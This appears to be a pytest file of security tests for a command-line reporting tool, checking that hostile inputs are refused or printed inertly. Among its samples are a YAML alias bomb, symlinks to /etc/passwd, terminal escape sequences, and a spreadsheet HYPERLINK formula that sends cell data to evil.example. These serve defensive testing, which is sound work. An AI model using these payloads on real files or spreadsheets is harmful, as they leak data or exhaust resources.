"""Hostile input files, values and options: each refused in a clear line, or read back as written.

Each case attacks the command line the way a tester did; the commands run in process (click's
CliRunner) except where the process itself is under test.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result

from portfolio_reports.cli.commands import cli
from portfolio_reports.data.dataset import load_dataset
from portfolio_reports.data.limits import DATA_LIMIT_ENV, PROBLEMS_PER_FILE
from portfolio_reports.data.snapshots import find_snapshot, write_snapshot
from portfolio_reports.paths import OutputLayout

from .conftest import NOTEBOOKS, SAMPLE_DATA, edit_cell

EXIT_INVALID_INPUT = 2
ALIAS_BOMB = "\n".join(
    ["a: &a [x, x, x, x, x, x, x, x, x]"]
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
    + ["notebook: market.ipynb", "title: t", "parameters: {market: *i}"]
)
"""600 bytes of YAML that expand to 9**9 strings when aliases are followed."""


def invoke(*args: str, env: dict[str, str] | None = None) -> Result:
    """Run the command line in this process; output holds stdout and stderr."""
    return CliRunner().invoke(cli, list(args), env=env, terminal_width=200)


def problem_lines(result: Result) -> list[str]:
    """The error lines a command printed."""
    return [line for line in result.output.splitlines() if line.startswith("error: ")]


def validate(data: Path | str, params: Path, env: dict[str, str] | None = None) -> Result:
    """`portfolio-reports validate` on a data source and a params folder."""
    args = ["validate", "--data", str(data), "--params", str(params), "--notebooks", str(NOTEBOOKS)]
    return invoke(*args, env=env)


def assert_one_problem(result: Result, *fragments: str) -> str:
    """The command exited 2 with one error line holding every fragment; return that line."""
    lines = problem_lines(result)
    assert result.exit_code == EXIT_INVALID_INPUT, result.output
    assert len(lines) == 1, result.output
    for fragment in fragments:
        assert fragment in lines[0], lines[0]
    return lines[0]


# Params files


def test_alias_bomb_is_refused_at_once(params: Path) -> None:
    assert len(ALIAS_BOMB) < 700
    (params / "bomb.yaml").write_text(ALIAS_BOMB)
    assert_one_problem(validate(SAMPLE_DATA, params), "params/bomb.yaml", "alias")


def test_oversized_params_file_is_refused_without_reading_it(params: Path) -> None:
    with (params / "huge.yaml").open("wb") as handle:
        handle.truncate(50 * 2**20)  # sparse: 50 MB that cost nothing to write
    assert_one_problem(validate(SAMPLE_DATA, params), "params/huge.yaml", "50.0 MB", "at most")


@pytest.mark.parametrize("target", ["/dev/zero", "/etc/passwd"])
def test_params_symlink_out_of_the_folder_is_refused_and_not_echoed(
    params: Path, target: str
) -> None:
    (params / "link.yaml").symlink_to(target)
    line = assert_one_problem(validate(SAMPLE_DATA, params), "params/link.yaml", "link")
    assert "root:" not in line


def test_params_fifo_is_refused_without_blocking(params: Path) -> None:
    os.mkfifo(params / "pipe.yaml")
    assert_one_problem(validate(SAMPLE_DATA, params), "params/pipe.yaml", "not a regular file")


def test_params_symlink_inside_the_folder_is_read(params: Path) -> None:
    (params / "japan-again.yaml").symlink_to(params / "market-jp.yaml")
    result = validate(SAMPLE_DATA, params)
    assert "report name 'market-jp'" not in result.output
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("name", ["index", "manifest", "notebooks", "snapshots"])
def test_report_names_the_build_uses_are_reserved(params: Path, name: str) -> None:
    (params / f"{name}.yaml").write_text(
        "notebook: market.ipynb\ntitle: X\nparameters: {market: JP}\n"
    )
    assert_one_problem(validate(SAMPLE_DATA, params), f"params/{name}.yaml", "reserved")


def test_report_name_is_anchored_at_its_end(params: Path) -> None:
    (params / "x.yaml").write_text(
        'notebook: market.ipynb\ntitle: X\nname: "japan\\n"\nparameters: {market: JP}\n'
    )
    assert_one_problem(validate(SAMPLE_DATA, params), "params/x.yaml", "report name")


def test_overlong_title_is_refused(params: Path) -> None:
    (params / "x.yaml").write_text(f"notebook: market.ipynb\ntitle: {'T' * 5000}\n")
    line = assert_one_problem(validate(SAMPLE_DATA, params), "params/x.yaml", "title", "200")
    assert len(line) < 400


def test_unquoted_norway_says_to_quote_it(params: Path) -> None:
    (params / "no.yaml").write_text(
        "notebook: market.ipynb\ntitle: Norway\nparameters:\n  market: NO\n"
    )
    assert_one_problem(validate(SAMPLE_DATA, params), "params/no.yaml", "quote", '"NO"')


# Data files


def bytes_read() -> int:
    """Bytes this process has read through read calls so far (Linux /proc/self/io rchar)."""
    counters = dict(line.split(": ") for line in Path("/proc/self/io").read_text().splitlines())
    return int(counters["rchar"])


def test_oversized_data_file_is_refused_without_reading_it(sample_copy: Path, params: Path) -> None:
    with (sample_copy / "sales.csv").open("r+b") as handle:
        handle.truncate(2**30)  # 1 GB, sparse
    before = bytes_read()
    line = assert_one_problem(validate(sample_copy, params), "sales.csv", "1024.0 MB")
    assert bytes_read() - before < 2**26, "the oversized file was read"  # far below 1 GB
    assert DATA_LIMIT_ENV in line


def test_data_limit_is_configurable(params: Path) -> None:
    result = validate(SAMPLE_DATA, params, env={DATA_LIMIT_ENV: "0.01"})
    assert result.exit_code == EXIT_INVALID_INPUT
    assert any("sales.csv" in line and "0.01 MB" in line for line in problem_lines(result))
    assert validate(SAMPLE_DATA, params, env={DATA_LIMIT_ENV: "5"}).exit_code == 0
    result = validate(SAMPLE_DATA, params, env={DATA_LIMIT_ENV: "lots"})
    assert_one_problem(result, DATA_LIMIT_ENV, "'lots'", "number of MB")


def test_junk_file_gives_a_bounded_number_of_lines(sample_copy: Path, params: Path) -> None:
    header = (sample_copy / "sales.csv").read_text().splitlines()[0]
    junk = [f"junk{i},x{i},??,{i}-{i},nope" for i in range(20_000)]
    (sample_copy / "sales.csv").write_text("\n".join([header, *junk]) + "\n")
    result = validate(sample_copy, params)
    lines = problem_lines(result)
    assert result.exit_code == EXIT_INVALID_INPUT
    sales_lines = [line for line in lines if "sales.csv" in line]
    assert len(sales_lines) == PROBLEMS_PER_FILE + 1, result.output
    assert re.search(r"sales\.csv: \.\.\. and \d+ more problems", sales_lines[-1])


def test_huge_csv_cell_is_one_line(sample_copy: Path, params: Path) -> None:
    edit_cell(sample_copy, "products", 1, "reference_product", "x" * 200_000)
    assert_one_problem(validate(sample_copy, params), "products.csv line 3", "longer than")


def test_unclosed_quote_at_end_of_file_is_one_line(sample_copy: Path, params: Path) -> None:
    with (sample_copy / "catalysts.csv").open("a") as handle:
        handle.write('HLX22,HLX22-GC,CN,approval,2027Q1,detail,"https://never.closed/\n')
    lines = len((sample_copy / "catalysts.csv").read_text().splitlines())
    assert_one_problem(validate(sample_copy, params), f"catalysts.csv line {lines}", "quote")


def test_line_numbers_are_the_files_lines(sample_copy: Path, params: Path) -> None:
    edit_cell(sample_copy, "products", 0, "reference_product", "MabThera\nRituxan\nthree lines")
    edit_cell(sample_copy, "products", 3, "modality", "P" * 81)
    # the header is line 1, the first product spans lines 2-4, the fourth product is line 7
    assert_one_problem(validate(sample_copy, params), "products.csv line 7", "'PPP")


def test_infinite_result_value_is_refused(sample_copy: Path, params: Path) -> None:
    edit_cell(sample_copy, "clinical_results", 0, "value", "inf")
    assert_one_problem(validate(sample_copy, params), "clinical_results.csv line 2", "'inf'")


def test_event_type_typo_is_one_line(sample_copy: Path, params: Path) -> None:
    edit_cell(sample_copy, "regulatory_events", 6, "event_type", "aproval")
    assert_one_problem(validate(sample_copy, params), "regulatory_events.csv line 8", "'aproval'")


def test_snapshot_manifest_in_a_data_folder_does_not_switch_validation_off(
    sample_copy: Path, params: Path
) -> None:
    (sample_copy / "snapshot.json").write_text('{"fingerprint": "x", "tables": []}')
    edit_cell(sample_copy, "clinical_results", 0, "value", "-inf")
    assert_one_problem(validate(sample_copy, params), "clinical_results.csv line 2")


def test_tampered_build_snapshot_is_not_trusted(tmp_path: Path) -> None:
    dataset = load_dataset(SAMPLE_DATA)
    snapshots = OutputLayout(tmp_path, "").snapshots_dir
    folder = write_snapshot(dataset, snapshots)
    assert find_snapshot(SAMPLE_DATA, snapshots) == folder
    sales = folder / "sales.parquet"
    sales.write_bytes(sales.read_bytes() + b"\0")
    assert find_snapshot(SAMPLE_DATA, snapshots) is None


# Writers


def test_workbook_text_is_never_a_formula(tmp_path: Path, sample_copy: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    edit_cell(sample_copy, "products", 0, "reference_product", formula)
    workbook = tmp_path / "x.xlsx"
    assert invoke("export-sample", "--data", str(sample_copy), "--to", str(workbook)).exit_code == 0
    cell = openpyxl.load_workbook(workbook)["products"]["H2"]
    assert (cell.value, cell.data_type) == (formula, "s")
    assert load_dataset(workbook).products.at[0, "reference_product"] == formula


# Secrets and printing


def test_database_password_is_masked_on_success(new_postgres_schema, params: Path) -> None:
    url = new_postgres_schema()
    password = sa.make_url(url).password
    exported = invoke("export-sample", "--to", url)
    checked = validate(url, params)
    for result in (exported, checked):
        assert result.exit_code == 0, result.output
        assert f":{password}@" not in result.output
        assert "***" in result.output


def test_bad_database_port_is_one_line(params: Path) -> None:
    result = validate("postgresql://reports:s3cret@localhost:port/db", params)
    line = assert_one_problem(result, "port")
    assert "s3cret" not in line


def test_printed_values_are_inert(params: Path) -> None:
    (params / "market-jp.yaml").write_text(
        'notebook: market.ipynb\ntitle: "Japan \\e[2J\\e]0;owned\\a [red]x[/red] :smile:"\n'
        "parameters: {market: JP}\n"
    )
    result = invoke(
        "list", "--params", str(params), "--notebooks", str(NOTEBOOKS), env={"COLUMNS": "300"}
    )
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\a" not in result.output
    assert "[red]x[/red] :smile:" in result.output


def test_huge_parquet_cell_is_one_line(tmp_path: Path, params: Path) -> None:
    folder = tmp_path / "parquet"
    assert invoke("export-sample", "--to", str(folder), "--format", "parquet").exit_code == 0
    products = pd.read_parquet(folder / "products.parquet")
    products.loc[1, "reference_product"] = "x" * 200_000
    products.to_parquet(folder / "products.parquet", index=False)
    line = assert_one_problem(
        validate(folder, params), "products.parquet row 2", "column reference_product", "200000"
    )
    assert len(line) < 300
